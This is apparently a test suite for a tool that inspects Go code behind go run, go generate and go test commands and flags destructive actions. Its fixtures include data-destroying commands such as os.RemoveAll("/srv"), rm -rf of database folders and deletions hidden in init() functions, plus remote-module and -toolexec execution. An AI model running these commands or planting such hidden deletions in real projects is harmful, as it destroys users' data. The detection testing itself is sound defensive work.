// Go: `go run`, `go generate` and `go test` judged by what the Go code does. Real files in
// temporary workspaces (a go.mod, packages), read by the real tree-sitter-go grammar.
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { actionsIn, evidenceOf, verdict } from './helpers.js';

const MOD = 'module example.com/app\n\ngo 1.22\n';
const main = (body: string, imports = '"os"') => `package main\n\nimport (\n${imports.split(' ').map((i) => `\t${i}`).join('\n')}\n)\n\nfunc main() {\n${body}\n}\n`;
const ops = (actions: Awaited<ReturnType<typeof actionsIn>>) => actions.map((a) => `${a.operation} ${a.target.id}`);

beforeAll(async () => {
  await actionsIn('go run main.go', { 'go.mod': MOD, 'main.go': main('\t_ = 1', '"fmt"') });
}, 60_000);

describe('go run reads the package it runs', () => {
  it('the lead\'s hole: os.RemoveAll("/srv") in cmd/clean, by every spelling of go run', async () => {
    const files = { 'go.mod': MOD, 'cmd/clean/main.go': 'package main; import "os"; func main(){ os.RemoveAll("/srv") }\n' };
    for (const run of ['go run ./cmd/clean', 'cd cmd/clean && go run main.go', 'cd cmd/clean && go run .', 'go run example.com/app/cmd/clean']) {
      const actions = await actionsIn(run, files);
      const del = actions.find((a) => a.operation === 'delete');
      expect(del, run).toBeDefined();
      expect(evidenceOf(del!)).toContain('main.go:1 calls os.RemoveAll("/srv")');
    }
  });

  it('a package that only prints passes', async () => {
    const actions = await actionsIn('go run .', { 'go.mod': MOD, 'main.go': main('\tfmt.Println("hi", os.Args[1:])', '"fmt" "os"') });
    expect(actions).toEqual([]);
  });

  it('exec.Command with literal words is judged as that command; sh -c of a built string is unknown', async () => {
    const lit = await actionsIn('go run .', { 'go.mod': MOD, 'main.go': main('\texec.Command("rm", "-rf", "/var/lib/postgresql").Run()', '"os/exec"') });
    expect(ops(lit).some((o) => o.startsWith('delete'))).toBe(true);
    const built = await actionsIn('go run .', { 'go.mod': MOD, 'main.go': main('\tx := os.Getenv("X")\n\texec.Command("sh", "-c", x).Run()', '"os" "os/exec"') });
    expect(built.map((a) => a.operation)).toContain('unknown');
  });

  it('follows values: constants, filepath.Join, fmt.Sprintf, a method value, a helper in another file', async () => {
    const files = {
      'go.mod': MOD,
      'main.go': 'package main\n\nimport (\n\t"os"\n\t"path/filepath"\n)\n\nconst base = "/srv"\n\nfunc main() {\n\tf := os.RemoveAll\n\tf(filepath.Join(base, "data"))\n\tclean(base + "/cache")\n}\n',
      'util.go': 'package main\n\nimport (\n\t"fmt"\n\t"os"\n)\n\nfunc clean(dir string) {\n\tos.RemoveAll(fmt.Sprintf("%s/x", dir))\n}\n',
    };
    const actions = await actionsIn('go run .', files);
    const targets = actions.filter((a) => a.operation === 'delete').map((a) => a.target.id);
    expect(targets.join(' ')).toContain('/srv/data');
    expect(targets.join(' ')).toContain('/srv/cache/x');
    expect(actions.find((a) => a.target.id.includes('/srv/cache/x'))?.source.file).toBe('util.go');
  });

  it('a deletion in init(), in a file with a build tag, in another package of the module', async () => {
    const files = {
      'go.mod': MOD,
      'main.go': main('\tlib.Hello()', '"example.com/app/lib"'),
      'tagged.go': '//go:build linux\n\npackage main\n\nimport "os"\n\nfunc init() { os.RemoveAll("/etc/app") }\n',
      'lib/lib.go': 'package lib\n\nimport "os"\n\nfunc Hello() {}\n\nfunc init() { os.Remove("/var/lib/app.db") }\n',
    };
    const ids = (await actionsIn('go run .', files)).filter((a) => a.operation === 'delete').map((a) => a.target.id).join(' ');
    expect(ids).toContain('/etc/app');
    expect(ids).toContain('/var/lib/app.db');
  });

  it('HOME from the environment is the home folder', async () => {
    const actions = await actionsIn('go run .', { 'go.mod': MOD, 'main.go': main('\tos.RemoveAll(filepath.Join(os.Getenv("HOME"), "x"))', '"os" "path/filepath"') });
    expect(actions.find((a) => a.operation === 'delete')?.target.id).toMatch(/x$/);
  });

  it('a remote module@version, -exec, -toolexec and GOFLAGS=-toolexec are code nobody has read', async () => {
    const files = { 'go.mod': MOD, 'main.go': main('\t_ = 1', '"fmt"') };
    for (const run of ['go run github.com/evil/x@latest', "go run -exec 'sh -c' .", 'go test -exec /tmp/x ./...', 'GOFLAGS=-toolexec=/tmp/x go build ./...', 'go vet -vettool=/tmp/x ./...']) {
      const actions = await actionsIn(run, files);
      expect(actions.map((a) => a.operation), run).toContain('unknown');
    }
  });

  it('go build, go vet, go mod tidy run no project code', async () => {
    const files = { 'go.mod': MOD, 'main.go': main('\tos.RemoveAll("/srv")') };
    for (const run of ['go build ./...', 'go vet ./...', 'go mod tidy', 'go build -o bin/app .']) expect(await actionsIn(run, files), run).toEqual([]);
  });
});

describe('go generate', () => {
  it('each //go:generate line is a command in the package folder, with file and line', async () => {
    const actions = await actionsIn('go generate ./...', { 'go.mod': MOD, 'pkg/gen.go': 'package pkg\n\n//go:generate rm -rf /srv\n' });
    const del = actions.find((a) => a.operation === 'delete');
    expect(del?.target.id).toBe('/srv');
    expect(del?.source).toMatchObject({ file: 'pkg/gen.go', line: 3 });
  });

  it('a generator run by go run that writes into the package passes', async () => {
    const actions = await actionsIn('go generate ./...', {
      'go.mod': MOD,
      'pkg/doc.go': 'package pkg\n\n//go:generate go run gen.go -out zz_generated.go\n',
      'pkg/gen.go': '//go:build ignore\n\npackage main\n\nimport (\n\t"flag"\n\t"os"\n)\n\nfunc main() {\n\tout := flag.String("out", "gen.go", "")\n\tflag.Parse()\n\tos.WriteFile(*out, []byte("package pkg\\n"), 0o644)\n}\n',
    });
    expect(actions.filter((a) => a.operation !== 'read' && a.operation !== 'create')).toEqual([]);
  });
});

describe('bad input is unknown with the reason, never a pass', () => {
  it.each([
    ['a syntax error', 'package main\nfunc main( {\n'],
    ['a binary named .go', Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 0, 1, 2])],
    ['a huge file', `package main\n\nfunc main() {}\n${'// filler\n'.repeat(40_000)}`],
    ['cgo', 'package main\n\n// #include <stdio.h>\nimport "C"\n\nfunc main() {}\n'],
  ])('%s', async (_what, text) => {
    const actions = await actionsIn('go run main.go', { 'go.mod': MOD, 'main.go': text });
    expect(actions.map((a) => a.operation)).toContain('unknown');
  });

  it('random text in a .go file never throws and never passes a delete unseen', async () => {
    await fc.assert(fc.asyncProperty(fc.string({ maxLength: 120 }), async (noise) => {
      const actions = await actionsIn('go run main.go', { 'go.mod': MOD, 'main.go': `package main\nimport "os"\nfunc main() { os.RemoveAll("/srv") }\n${noise}` });
      expect(actions.some((a) => a.operation === 'delete' || a.operation === 'unknown')).toBe(true);
    }), { numRuns: 25 });
  });
});

describe('verdicts', () => {
  it('go run of the deleting package stops; of a printing one passes', async () => {
    expect((await verdict('go run ./cmd/clean', { 'go.mod': MOD, 'cmd/clean/main.go': 'package main; import "os"; func main(){ os.RemoveAll("/srv") }\n' })).verdict).not.toBe('pass');
    expect((await verdict('go run ./cmd/hello', { 'go.mod': MOD, 'cmd/hello/main.go': 'package main; import "fmt"; func main(){ fmt.Println("hi") }\n' })).verdict).toBe('pass');
  });
});
